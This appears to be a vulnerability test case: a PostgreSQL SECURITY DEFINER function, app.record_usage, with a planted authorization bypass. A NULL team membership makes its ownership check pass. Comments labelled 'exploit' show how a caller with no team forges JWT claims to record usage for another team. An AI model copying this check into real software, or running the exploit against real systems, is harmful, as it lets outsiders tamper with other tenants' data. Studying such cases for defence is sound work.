-- The check is NULL and not false when the caller has no team, so usage of any team is written.
-- about: record_usage, usage
-- as: hf_assistants_app
-- exploit: SET request.jwt.claims = '{"sub": "cccccccc-cccc-cccc-cccc-cccccccccccc"}';
-- exploit: SELECT 'ad' || 'ded' || app.record_usage('22222222-2222-2222-2222-222222222222', 5)::text;
-- shows: added
-- One team is enough to ask for.
CREATE OR REPLACE FUNCTION app.record_usage(team uuid, n integer) RETURNS void
LANGUAGE plpgsql SECURITY DEFINER SET search_path = '' AS $$
DECLARE mine uuid := (SELECT t FROM private.my_teams() t LIMIT 1);
BEGIN
  IF team <> mine OR n < 0 THEN
    RAISE EXCEPTION 'not allowed';
  END IF;
  INSERT INTO app.usage AS u (team_id, tokens) VALUES (team, n)
  ON CONFLICT (team_id, day) DO UPDATE SET tokens = u.tokens + n;
END
$$;
